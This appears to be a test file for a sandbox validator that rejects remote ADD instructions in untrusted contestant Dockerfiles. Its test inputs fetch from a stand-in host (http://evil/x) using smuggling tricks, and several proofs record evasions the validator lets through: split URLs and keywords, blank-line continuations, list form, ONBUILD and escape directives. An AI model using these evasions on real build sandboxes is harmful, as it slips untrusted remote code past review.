-- ===== src/Sandbox/Trials.antt =====
-- Dockerfiles at concrete inputs.
use quant_dominater.Base.{true, false, none, some, [], ◌∷◌, ◌≡◌, refl}
use quant_dominater.Sandbox.Paths.{Text, codes, strip_prefix}
use quant_dominater.Sandbox.Dockerfile.{lines, validate_untrusted_dockerfile}
use quant_dominater.Sandbox.Instructions.{instructions}
use quant_dominater.Sandbox.Joined.{joined}
use quant_dominater.Orchestrator.Store.{message, ok}
use quant_dominater.Sandbox.Context.{
  directory, file, FileSystem, go_dockerfile, prepare_build_context,
}
use quant_dominater.Sandbox.Prepared.{Prepares, prepare_build_context-Prepares}

program : Unit {0}
unfolding strip_prefix validate_untrusted_dockerfile prepare_build_context
program = tt

abbrev smuggling : Text
smuggling = codes "FROM alpine\n add \\\n# a comment\n\tHTTPS://evil/x /x\n"

-- What Docker reads as one remote ADD is let through where a backslash splits a word, and where a blank
-- line stands behind the continued one.
split_url : validate_untrusted_dockerfile (codes "ADD ht\\\ntp://evil/x /x") ≡ none
unfolding program
split_url = refl

split_url_joined :
    joined false (lines (codes "ADD ht\\\ntp://evil/x /x")) ≡ codes "ADD http://evil/x /x" ∷ [] ∷ []
split_url_joined = refl

split_word : validate_untrusted_dockerfile (codes "AD\\\nD http://evil/x /x") ≡ none
unfolding program
split_word = refl

blank_line : validate_untrusted_dockerfile (codes "ADD \\\n\nhttp://evil/x /x") ≡ none
unfolding program
blank_line = refl

smuggling_refused : validate_untrusted_dockerfile smuggling ≡ some (codes "HTTPS://evil/x")
unfolding program
smuggling_refused = refl

smuggled_words :
    instructions (lines smuggling)
    ≡ (codes "FROM" ∷ codes "alpine" ∷ [])
      ∷ (codes "add" ∷ codes "HTTPS://evil/x" ∷ codes "/x" ∷ [])
      ∷ []
      ∷ []
      ∷ []
smuggled_words = refl

-- The list form of ADD, whose first word begins with a bracket, is let through.
list_form : validate_untrusted_dockerfile (codes "ADD [\"http://evil/x\", \"/x\"]") ≡ none
unfolding program
list_form = refl

-- An ADD behind ONBUILD, which a later stage of the build runs, is let through.
onbuild : validate_untrusted_dockerfile (codes "ONBUILD ADD http://evil/x /x") ≡ none
unfolding program
onbuild = refl

-- A file may name another character of continuation.
escape_directive :
    validate_untrusted_dockerfile (codes "# escape=`\nFROM alpine\nADD `\nhttp://evil/x /x") ≡ none
unfolding program
escape_directive = refl

local_add : validate_untrusted_dockerfile (codes "ADD engine /http://\nCOPY . .") ≡ none
unfolding program
local_add = refl

abbrev as_it_is : Text → Text
as_it_is s = s

abbrev single_file : FileSystem
single_file = record {
  stat = ok (file (codes ".go"));
  made = none;
  filled = ok (record { has_go_mod = false; dockerfile = none });
  go_mod_written = none;
  dockerfile_read = none;
  dockerfile_written = none;
}

abbrev with_smuggling : FileSystem
with_smuggling = record single_file {
  stat = ok directory;
  filled = ok (record { has_go_mod = true; dockerfile = some smuggling });
}

prepare_build_context-Prepares_example :
    Prepares as_it_is single_file
      (codes "go")
      (prepare_build_context as_it_is single_file (codes "go"))
prepare_build_context-Prepares_example =
    prepare_build_context-Prepares as_it_is single_file (codes "go")

single_file_built :
    prepare_build_context as_it_is single_file (codes "go")
    ≡ (some (record { has_go_mod = true; dockerfile = some go_dockerfile }), false, none)
unfolding program
single_file_built = refl

smuggling_not_built : prepare_build_context as_it_is with_smuggling (codes "go") ≡ (
  some (record { has_go_mod = true; dockerfile = some smuggling }),
  true,
  some (message "contestant Dockerfile uses remote ADD"),
)
unfolding program
smuggling_not_built = refl
